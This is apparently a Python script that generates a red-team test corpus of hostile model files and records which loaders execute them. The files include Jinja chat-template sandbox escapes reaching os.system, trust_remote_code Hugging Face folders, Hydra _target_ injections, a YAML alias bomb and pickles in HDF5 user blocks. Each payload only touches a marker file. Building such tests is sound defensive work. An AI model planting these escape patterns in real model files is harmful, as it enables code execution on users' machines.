"""Hostile configs, chat templates and polyglots, each checked against the real loader.

Run with the Keras producer venv (transformers 5.24, jinja2 3.1, hydra-core 1.3.8, h5py,
torch): ``/work/venvs/keras/bin/python tests/corpus/redteam5/make_redteam5.py``; it calls
``/work/venvs/hydra132`` (hydra-core 1.3.2) and ``/work/venvs/gguf`` (the gguf writer and
reader) for their parts. Every payload runs ``touch rt5_marker`` (``os.system``). Each loader
runs in a child process in a fresh temporary directory; ``redteam5.truth.json`` records per
file and loader ``executed`` (the marker appeared), ``accepted`` or ``rejected``.

* ``tpl_*``: Jinja chat templates that leave a plain ``jinja2.Environment`` (what
  llama-cpp-python before 0.2.72 rendered GGUF templates in) without a ``_``-attribute in the
  text: attribute paths given to ``map``/``groupby`` at render time (names spelled as keyword
  arguments ``dict(__init__=1)|first`` or built with ``("%" ~ "c") % 95``), ``map("attr", x)``,
  and a generator's ``gi_frame.f_globals``; as ``tokenizer_config.json`` (a string, a list of
  named templates), ``chat_template.jinja``, ``chat_template.json`` and GGUF
  ``tokenizer.chat_template[.name]``. transformers' sandbox refuses every one;
* ``hf_*``: Hugging Face folders whose code ``from_pretrained(trust_remote_code=True)`` runs
  beyond the folder: a module ``auto_map`` names by an absolute path, modules it imports relatively (copied and imported by
  transformers), ``custom_pipelines`` (``pipeline(trust_remote_code=True)``), and
  ``preprocessor_config.json``'s ``auto_map`` (``AutoFeatureExtractor``), and named chat
  templates in ``additional_chat_templates/`` (a tokenizer loads every ``*.jinja`` there);
* ``yaml_*``: Hydra configs whose ``_target_`` is spelled inside a string that OmegaConf turns
  into a node when the value is read (``${oc.create:...}``, ``${oc.decode:...}``), also with
  the key assembled from interpolated pieces, and an alias bomb;
* ``h5_*``: HDF5 files with a pickle in the user block (``torch.load`` and ``pickle.load``
  read offset 0, h5py the superblock at 512).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).parent
OUT = HERE / "files"
MARKER = "rt5_marker"
HYDRA132 = "/work/venvs/hydra132/bin/python"
# where hf_auto_map_absolute's code is while the loaders run (an absolute path in auto_map)
ELSEWHERE = "/tmp/rt5_elsewhere"
GGUF = "/work/venvs/gguf/bin/python"

# -- chat templates: each ends in os.system("touch rt5_marker") when rendered outside a sandbox
_KW = "dict({}=1)|first"
_PATH = ' ~ "." ~ '.join(_KW.format(n) for n in
                         ("__init__", "__globals__", "__builtins__", "__import__"))
_SYSTEM = '("o" ~ "s").system("touch ' + MARKER + '")'
TEMPLATES = {
    "map_keyword_names": "{{ ([namespace]|map(attribute=" + _PATH + ")|first)" + _SYSTEM
                         + " }}",
    "map_percent_c": '{% set u = ("%" ~ "c") % 95 %}{% set d = u ~ u %}'
                     '{% set p = d ~ "init" ~ d ~ "." ~ d ~ "globals" ~ d ~ "." ~ d ~ '
                     '"builtins" ~ d ~ "." ~ d ~ "imp" ~ "ort" ~ d %}'
                     "{{ ([namespace]|map(attribute=p)|first)" + _SYSTEM + " }}",
    "map_attr_filter": "{% set a = " + _KW.format("__init__") + " %}{% set b = "
                       + _KW.format("__globals__") + " %}{% set c = "
                       + _KW.format("__builtins__") + " %}{% set d = "
                       + _KW.format("__import__") + ' %}{{ ([namespace]|map("attr", a)'
                       '|map("attr", b)|first)[c][d]' + _SYSTEM + " }}",
    "groupby_grouper": "{% set p = " + _PATH + " %}{{ ([namespace]|groupby(p)|first).grouper"
                       + _SYSTEM + " }}",
    "item_keyword_names": "{% set a = " + _KW.format("__init__") + " %}{% set b = "
                          + _KW.format("__globals__") + " %}{% set c = "
                          + _KW.format("__builtins__") + " %}{% set d = "
                          + _KW.format("__import__") + " %}{{ namespace[a][b][c][d]"
                          + _SYSTEM + " }}",
    "item_percent_c": '{% set u = ("%" ~ "c") % 95 %}{% set d = u ~ u %}{% set a = d ~ "init" ~ d %}'
                      '{% set b = d ~ "globals" ~ d %}{% set c = d ~ "builtins" ~ d %}'
                      '{% set e = d ~ "imp" ~ "ort" ~ d %}{{ namespace[a][b][c][e]' + _SYSTEM
                      + " }}",
    "item_underscore_var": '{% set u = "_" %}{% set a = u ~ u ~ "init" ~ u ~ u %}'
                           '{% set b = u ~ u ~ "globals" ~ u ~ u %}{% set c = u ~ u ~ "builtins" ~ u ~ u %}'
                           '{% set d = u ~ u ~ "imp" ~ "ort" ~ u ~ u %}{{ namespace[a][b][c][d]'
                           + _SYSTEM + " }}",
    "item_macro_param": "{% macro run(o, a, b, c, d) %}{{ o[a][b][c][d]" + _SYSTEM
                        + ' }}{% endmacro %}{% set u = "_" %}{{ run(namespace, '
                        'u ~ u ~ "init" ~ u ~ u, u ~ u ~ "globals" ~ u ~ u, '
                        'u ~ u ~ "builtins" ~ u ~ u, u ~ u ~ "imp" ~ "ort" ~ u ~ u) }}',
    "gi_frame": '{{ ([1]|map("string")).gi_frame.f_globals.typing.sys.modules.os'
                '.system("touch ' + MARKER + '") }}',
    "gi_frame_item": '{{ ([1]|map("string")).gi_frame.f_globals.typing.sys.modules["o" ~ "s"]'
                     '.system("touch ' + MARKER + '") }}',
}
# CVE-2024-34359's pattern
CVE_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch " + MARKER + "').read() }}"
TEMPLATE_DIR = "additional_chat_templates"  # named templates a tokenizer loads from the folder
BENIGN_TEMPLATE = ("{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}"
                   "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}")

PAYLOAD_PY = 'import os\n\nos.system("touch ' + MARKER + '")\n'
CONFIG_PY = ("from transformers import PretrainedConfig\n\n{imp}  # noqa: F401\n\n\n"
             "class XConfig(PretrainedConfig):\n    model_type = \"xrt\"\n")
PIPELINE_PY = (
    "import os\n\nfrom transformers import Pipeline\n\nos.system(\"touch " + MARKER + "\")\n\n\n"
    "class P(Pipeline):\n"
    "    def _sanitize_parameters(self, **kwargs):\n        return {}, {}, {}\n\n"
    "    def preprocess(self, x):\n        return x\n\n"
    "    def _forward(self, x):\n        return x\n\n"
    "    def postprocess(self, x):\n        return x\n")
FEATURE_PY = ("import os\n\nfrom transformers import FeatureExtractionMixin\n\n"
              "os.system(\"touch " + MARKER + "\")\n\n\n"
              "class XFE(FeatureExtractionMixin):\n    pass\n")
BERT = {"model_type": "bert", "vocab_size": 10, "hidden_size": 8, "num_hidden_layers": 1,
        "num_attention_heads": 2, "intermediate_size": 8}
XRT = {"model_type": "xrt", "auto_map": {"AutoConfig": "configuration_x.XConfig"}}


def tokenizer_config(template: object) -> bytes:
    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>",
                       "chat_template": template}, indent=1).encode()


def template_files() -> dict[str, bytes]:
    out = {f"tpl_{name}.tokenizer_config.json": tokenizer_config(t)
           for name, t in TEMPLATES.items()}
    out["tpl_named_list.tokenizer_config.json"] = tokenizer_config(
        [{"name": "default", "template": BENIGN_TEMPLATE},
         {"name": "tool_use", "template": TEMPLATES["map_keyword_names"]}])
    out["tpl_benign.tokenizer_config.json"] = tokenizer_config(BENIGN_TEMPLATE)
    # transformers' environment adds {% generation %} and loop controls: parsed, not an error
    out["tpl_benign_generation.tokenizer_config.json"] = tokenizer_config(
        "{% for m in messages %}{% if loop.index > 8 %}{% break %}{% endif %}"
        "{% if m['role'] == 'assistant' %}{% generation %}{{ m['content']|replace('\\n', ' ') }}"
        "{% endgeneration %}{% else %}{{ m['content'] }}{% endif %}{% endfor %}")
    out["tpl_percent_c.chat_template.jinja"] = TEMPLATES["map_percent_c"].encode()
    out["tpl_groupby.chat_template.json"] = json.dumps(
        {"chat_template": TEMPLATES["groupby_grouper"]}).encode()
    return out


def gguf_files() -> None:
    """GGUF files written by the gguf package (its own venv)."""
    script = (
        "import json, sys, numpy as np, gguf\n"
        "for path, key, template in json.loads(sys.argv[1]):\n"
        "    w = gguf.GGUFWriter(path, 'llama')\n"
        "    if key:\n"
        "        w.add_chat_template('{{ messages[0][\"content\"] }}')\n"
        "        w.add_string(key, template)\n"
        "    else:\n"
        "        w.add_chat_template(template)\n"
        "    w.add_tensor('w', np.zeros((2, 2), dtype=np.float32))\n"
        "    w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file()\n"
        "    w.close()\n")
    jobs = [(str(OUT / "tpl_groupby.gguf"), None, TEMPLATES["groupby_grouper"]),
            (str(OUT / "tpl_gi_frame_named.gguf"), "tokenizer.chat_template.tool_use",
             TEMPLATES["gi_frame"])]
    subprocess.run([GGUF, "-c", script, json.dumps(jobs)], check=True)


def hf_folders() -> None:
    import torch
    from safetensors.torch import save_file

    def folder(name: str, config: dict, files: dict[str, str]) -> None:
        d = OUT / name
        d.mkdir()
        save_file({"w": torch.zeros(2, 2)}, str(d / "model.safetensors"))
        (d / "config.json").write_text(json.dumps(config, indent=1))
        for fn, text in files.items():
            (d / fn).write_text(text)

    folder("hf_relative_import", XRT, {
        "configuration_x.py": CONFIG_PY.format(imp="from .helper import VALUE"),
        "helper.py": PAYLOAD_PY + "VALUE = 1\n"})
    folder("hf_relative_chain", XRT, {
        "configuration_x.py": CONFIG_PY.format(imp="from .util_a import A"),
        "util_a.py": "from .util_b import B\n\nA = B\n", "util_b.py": PAYLOAD_PY + "B = 1\n"})
    pipelines = {"rt5-task": {"impl": "pipe.P", "pt": ["AutoModel"], "tf": []}}
    folder("hf_custom_pipeline", {**BERT, "custom_pipelines": pipelines},
           {"pipe.py": PIPELINE_PY})
    folder("hf_custom_pipeline_missing", {**BERT, "custom_pipelines": pipelines}, {})
    remote = {"rt5-task": {"impl": "someone/code--pipe.P", "pt": ["AutoModel"]}}
    folder("hf_custom_pipeline_remote", {**BERT, "custom_pipelines": remote}, {})
    for name, template in (("hf_additional_chat_template", TEMPLATES["groupby_grouper"]),
                           ("hf_additional_chat_template_cve", CVE_TEMPLATE)):
        folder(name, BERT, {})
        (OUT / name / TEMPLATE_DIR).mkdir()
        (OUT / name / TEMPLATE_DIR / "tool_use.jinja").write_text(template)
    folder("hf_auto_map_absolute", {"model_type": "xrt", "auto_map": {
        "AutoConfig": f"{ELSEWHERE}/configuration_x.XConfig"}}, {})
    folder("hf_preprocessor_auto_map", BERT, {
        "feature_x.py": FEATURE_PY,
        "preprocessor_config.json": json.dumps({
            "feature_extractor_type": "XFE",
            "auto_map": {"AutoFeatureExtractor": "feature_x.XFE"}})})


YAML = {
    "yaml_oc_create.yaml": ("model:\n  layer: \"${oc.create:{_target_: os.system, "
                            "_args_: ['touch " + MARKER + "']}}\"\n", "model.layer"),
    "yaml_oc_create_list.yaml": ("model: \"${oc.create:[{_target_: os.system, "
                                 "_args_: ['touch " + MARKER + "']}]}\"\n", "model"),
    "yaml_oc_create_indirect.yaml": ("payload: \"{_target_: os.system, _args_: [touch "
                                     + MARKER + "]}\"\nmodel:\n  layer: "
                                     "${oc.create:${payload}}\n", "model.layer"),
    "yaml_oc_decode.yaml": ("model:\n  layer: \"${oc.decode:'{_target_: os.system, "
                            "_args_: [touch " + MARKER + "]}'}\"\n", "model.layer"),
    "yaml_oc_decode_indirect.yaml": ("payload: \"{_target_: os.system, _args_: [touch "
                                     + MARKER + "]}\"\nmodel:\n  layer: "
                                     "${oc.decode:${payload}}\n", "model.layer"),
    "yaml_oc_create_split_key.yaml": ("a: _tar\nb: get_\nk: ${a}${b}\npayload: \"{${k}: "
                                      "os.system, _args_: [touch " + MARKER + "]}\"\nmodel:\n"
                                      "  layer: ${oc.create:${payload}}\n", "model.layer"),
    "yaml_oc_create_benign.yaml": ("model:\n  layer: \"${oc.create:{_target_: "
                                   "torch.nn.Linear, in_features: 2, out_features: 2}}\"\n",
                                   "model.layer"),
}


def yaml_files() -> dict[str, bytes]:
    out = {name: text.encode() for name, (text, _) in YAML.items()}
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n"
    prev = "a"
    for name in "bcdefghi":  # 9**9 leaves once the aliases are expanded
        bomb += f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]\n"
        prev = name
    out["yaml_alias_bomb.yaml"] = (bomb + "model:\n  _target_: torch.nn.Linear\n"
                                   "  in_features: 2\n  out_features: 2\n").encode()
    return out


def h5_files() -> dict[str, bytes]:
    import pickle
    import struct

    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp, "ub.h5")
        with h5py.File(path, "w", userblock_size=512) as f:
            f["dense/kernel"] = np.zeros((2, 2), dtype=np.float32)
        base = path.read_bytes()
    cmd = b"touch " + MARKER.encode()
    fronts = {
        "h5_user_block_proto0.h5": b"cos\nsystem\n(S'touch " + MARKER.encode() + b"'\ntR.",
        "h5_user_block_proto2.h5": b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(cmd))
                                   + cmd + b"\x85R.",
        "h5_user_block_benign.h5": pickle.dumps({"note": [1, 2, 3]}, protocol=2),
    }
    return {name: front + base[len(front):] for name, front in fronts.items()}


# -- loaders: (interpreter, code); the file's path is argv[1], argv[2] an optional argument
RENDER_PLAIN = ("import sys, jinja2\nt = open(sys.argv[1]).read()\n"
                "jinja2.Environment().from_string(t).render(messages=[{'role': 'user', "
                "'content': 'hi'}], bos_token='<s>', add_generation_prompt=True)\n")
RENDER_SANDBOX = ("import sys\nfrom transformers.utils.chat_template_utils import "
                  "_compile_jinja_template\nt = open(sys.argv[1]).read()\n"
                  "_compile_jinja_template(t).render(messages=[{'role': 'user', "
                  "'content': 'hi'}], bos_token='<s>', add_generation_prompt=True)\n")
HF = ("import os, sys, tempfile\nos.environ['HF_HUB_OFFLINE'] = '1'\n"
      "os.environ['HF_MODULES_CACHE'] = tempfile.mkdtemp()\nimport transformers\n")
LOADERS = {
    "jinja2.Environment.render": (sys.executable, RENDER_PLAIN),
    "transformers sandbox render": (sys.executable, RENDER_SANDBOX),
    "AutoConfig(trust_remote_code=True)": (sys.executable, HF + (
        "transformers.AutoConfig.from_pretrained(sys.argv[1], trust_remote_code=True)\n")),
    "AutoConfig()": (sys.executable, HF + "transformers.AutoConfig.from_pretrained(sys.argv[1])\n"),
    "pipeline(trust_remote_code=True)": (sys.executable, HF + (
        "transformers.pipeline(model=sys.argv[1], trust_remote_code=True)\n")),
    "pipeline()": (sys.executable, HF + "transformers.pipeline(model=sys.argv[1])\n"),
    "AutoFeatureExtractor(trust_remote_code=True)": (sys.executable, HF + (
        "transformers.AutoFeatureExtractor.from_pretrained(sys.argv[1], "
        "trust_remote_code=True)\n")),
    "hydra 1.3.2 instantiate": (HYDRA132, (
        "import resource, sys\nresource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))\n"
        "from omegaconf import OmegaConf\nimport hydra.utils\n"
        "cfg = OmegaConf.load(sys.argv[1])\n"
        "hydra.utils.instantiate(OmegaConf.select(cfg, sys.argv[2]))\n")),
    "torch.load": (sys.executable, "import sys, torch\ntorch.load(sys.argv[1], "
                                   "weights_only=False)\n"),
    "pickle.load": (sys.executable, "import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))\n"),
    "h5py": (sys.executable, "import sys, h5py\nh5py.File(sys.argv[1], 'r')['dense/kernel'][:]\n"),
}


def gguf_template(path: Path) -> str:
    """The chat template a GGUF front-end renders: the named one when a named key is set."""
    script = ("import sys, gguf\nr = gguf.GGUFReader(sys.argv[1])\n"
              "keys = [k for k in r.fields if k.startswith('tokenizer.chat_template')]\n"
              "f = r.fields[max(keys, key=len)]\n"
              "sys.stdout.write(bytes(f.parts[f.data[0]]).decode())\n")
    return subprocess.run([GGUF, "-c", script, str(path)], check=True, capture_output=True,
                          text=True).stdout


def loaders_for(name: str) -> list[tuple[str, str]]:
    """``(loader, argument)`` pairs run on a file."""
    if name.startswith(("tpl_", "hf_additional_chat_template")):
        return [("jinja2.Environment.render", ""), ("transformers sandbox render", "")]
    if name.startswith("hf_custom_pipeline"):
        return [("pipeline(trust_remote_code=True)", ""), ("pipeline()", "")]
    if name == "hf_preprocessor_auto_map":
        return [("AutoFeatureExtractor(trust_remote_code=True)", "")]
    if name.startswith("hf_"):
        return [("AutoConfig(trust_remote_code=True)", ""), ("AutoConfig()", "")]
    if name.startswith("yaml_"):
        return [("hydra 1.3.2 instantiate", YAML[name][1] if name in YAML else "model")]
    return [("torch.load", ""), ("pickle.load", ""), ("h5py", "")]


def run(loader: str, path: Path, arg: str) -> str:
    python, code = LOADERS[loader]
    with tempfile.TemporaryDirectory() as tmp:
        target = path.resolve()
        if loader.endswith("render"):  # the template text the front-end renders
            if path.is_dir():
                target = next((target / TEMPLATE_DIR).glob("*.jinja"))
            text = (gguf_template(target) if target.suffix == ".gguf" else
                    target.read_text() if target.suffix == ".jinja" else None)
            if text is None:
                value = json.loads(target.read_text())["chat_template"]
                text = value if isinstance(value, str) else value[-1]["template"]
            target = Path(tmp, "template.jinja")
            target.write_text(text)
        try:
            p = subprocess.run([python, "-c", code, str(target), arg], cwd=tmp,
                               capture_output=True, timeout=90)
        except subprocess.TimeoutExpired:
            return "timeout"
        if (Path(tmp) / MARKER).exists():
            return "executed"
        return "accepted" if p.returncode == 0 else "rejected"


def main() -> None:
    import h5py
    import jinja2
    import transformers

    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir()
    for name, data in {**template_files(), **yaml_files(), **h5_files()}.items():
        (OUT / name).write_bytes(data)
    gguf_files()
    hf_folders()
    Path(ELSEWHERE).mkdir(exist_ok=True)
    Path(ELSEWHERE, "configuration_x.py").write_text(PAYLOAD_PY + CONFIG_PY.format(
        imp="from json import dumps"))
    truth: dict[str, dict[str, str]] = {}
    # --reuse: keep the recorded rows of files already in the truth (the writers here are
    # deterministic: the same bytes), run the loaders on the new ones only
    old = json.loads((HERE / "redteam5.truth.json").read_text())["files"] \
        if "--reuse" in sys.argv else {}
    for path in sorted(OUT.iterdir()):
        truth[path.name] = old.get(path.name) or {
            ld: run(ld, path, arg) for ld, arg in loaders_for(path.name)}
        print(path.name, truth[path.name], flush=True)
    shutil.rmtree(ELSEWHERE)
    hydra = subprocess.run([HYDRA132, "-c", "import hydra; print(hydra.__version__)"],
                           capture_output=True, text=True).stdout.strip()
    producer = {"python": sys.version.split()[0], "transformers": transformers.__version__,
                "jinja2": jinja2.__version__, "h5py": h5py.__version__, "hydra-core": hydra}
    (HERE / "redteam5.truth.json").write_text(json.dumps(
        {"producer": producer, "marker": MARKER, "files": truth}, indent=1, sort_keys=True)
        + "\n")


if __name__ == "__main__":
    os.umask(0o022)
    main()
